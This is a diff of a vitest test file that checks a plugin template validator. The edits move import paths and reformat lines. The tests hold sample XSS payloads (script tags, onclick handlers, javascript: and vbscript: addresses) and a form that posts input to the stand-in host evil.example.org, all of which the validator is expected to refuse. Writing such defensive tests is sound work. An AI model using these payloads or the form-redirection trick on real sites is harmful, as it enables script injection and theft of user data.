@@ -1,15 +1,16 @@
 /** Templates, which are all the code a declarative plugin has, and what a plugin with code can do through its own. */
 import { describe, expect, test } from "vitest";
-import type { TemplateKind } from "../../../manifests/templateCheck.ts";
-import { checkTemplate } from "../../../manifests/templateCheck.ts";
-import { computing, computingWorld, dataSection, said } from "../../runtime/kernel/computing.ts";
-import { page } from "../../runtime/kernel/kit.ts";
+import type { TemplateKind } from "../../../manifests/templates/templateCheck.ts";
+import { checkTemplate } from "../../../manifests/templates/templateCheck.ts";
+import { computing, computingWorld, dataSection, said } from "../../runtime/snapshots/computing.ts";
+import { page } from "../../runtime/kernel/world.ts";
 
-const isRefused = (text: string, kind: TemplateKind = "section"): boolean => checkTemplate({ text, pointer: "/template" }, kind).length > 0;
+const isRefused = (text: string, kind: TemplateKind = "section"): boolean =>
+  checkTemplate({ text, pointer: "/template" }, kind).length > 0;
 
 const TARGET = 'method="post" action="{{ "vote" | route }}"';
 
-describe("117. a template is refused", () => {
+describe("a template is refused (attack 117)", () => {
   test.each([
     ["with a script", "<script>alert(1)</script>"],
     ["with a handler", '<p onclick="alert(1)">x</p>'],
@@ -17,9 +18,15 @@ describe("117. a template is refused", () => {
     ["that names a file of ours", '{% include "secret" %}'],
     ["that writes no escaping", "{{ fields.text | raw }}"],
     ["that sends a form elsewhere", '<form method="post" action="https://evil.example.org/"><input name="a"></form>'],
-    ["that sends a form to our interface", '<form method="post" action="/api/plugins/acme.tool"><input name="a"></form>'],
-    ["that sends a form to where an editor's text says", '<form method="post" action="{{ fields.text }}"><input name="a"></form>'],
-    ["that sends a form where the page is", "<form><input name=\"a\"></form>"],
+    [
+      "that sends a form to our interface",
+      '<form method="post" action="/api/plugins/acme.tool"><input name="a"></form>',
+    ],
+    [
+      "that sends a form to where an editor's text says",
+      '<form method="post" action="{{ fields.text }}"><input name="a"></form>',
+    ],
+    ["that sends a form where the page is", '<form><input name="a"></form>'],
     ["that sends it there sometimes", `<form {% if fields.text %}${TARGET}{% endif %}><input name="a"></form>`],
     ["that sends what is typed in an address", `<form method="get" ${TARGET}><input name="a"></form>`],
     ["that sends it to the first of two", `<form ${TARGET} action="{{ "other" | route }}"><input name="a"></form>`],
@@ -36,11 +43,21 @@ describe("117. a template is refused", () => {
   });
 
   test("but not for a form that sends to its own plugin", () => {
-    expect(isRefused(`<form class="box" ${TARGET} id="{{ section.id }}">{% if fields.text %}<input name="a">{% endif %}</form>`)).toBe(false);
+    expect(
+      isRefused(
+        `<form class="box" ${TARGET} id="{{ section.id }}">{% if fields.text %}<input name="a">{% endif %}</form>`,
+      ),
+    ).toBe(false);
   });
 });
 
-test.each(["javascript:alert(1)", "JAVASCRIPT:alert(1)", " data:text/html,x", "vbscript:x", '"><script>alert(1)</script>'])("117. an address a plugin computes is no script: %s", async (address) => {
+test.each([
+  "javascript:alert(1)",
+  "JAVASCRIPT:alert(1)",
+  " data:text/html,x",
+  "vbscript:x",
+  '"><script>alert(1)</script>',
+])("an address a plugin computes is no script: %s (attack 117)", async (address) => {
   const tool = computing();
   const template = `<a href="{{ data.text }}">x</a>{% for one in data.list %}<a href="{{ one.url }}">y</a>{% endfor %}`;
   const made = await computingWorld(
